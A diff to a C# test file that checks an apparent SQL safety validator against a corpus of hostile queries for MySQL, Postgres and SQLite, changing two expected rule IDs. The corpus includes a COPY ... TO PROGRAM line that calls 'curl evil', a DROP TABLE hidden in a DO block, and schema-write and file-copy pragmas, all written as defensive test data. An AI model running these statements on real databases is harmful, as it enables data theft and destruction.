@@ -89,10 +89,10 @@ public sealed class AttackCorpusTests
         { "mysql", "SELECT * FROM orders LOCK IN SHARE MODE", RuleIds.Locking },
         { "mysql", "LOCK TABLES orders WRITE", RuleIds.Locking },
         { "postgres", "EXPLAIN ANALYZE SELECT pg_sleep(1)", RuleIds.ExplainAnalyze },
-        { "postgres", "EXPLAIN (ANALYZE) DELETE FROM users", RuleIds.DataChange },
+        { "postgres", "EXPLAIN (ANALYZE) DELETE FROM users", RuleIds.ExplainAnalyze },
         { "postgres", "COPY (SELECT * FROM users) TO PROGRAM 'curl evil'", RuleIds.DataChange },
         { "postgres", "DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$", RuleIds.SessionControl },
-        { "postgres", "CREATE TABLE x AS SELECT 1", RuleIds.QueryRoot },
+        { "postgres", "CREATE TABLE x AS SELECT 1", RuleIds.DataChange },
         { "sqlite", "PRAGMA writable_schema = 1", RuleIds.SessionControl },
         { "sqlite", "VACUUM INTO '/tmp/copy.db'", RuleIds.QueryRoot },
         // parser confusion fails closed
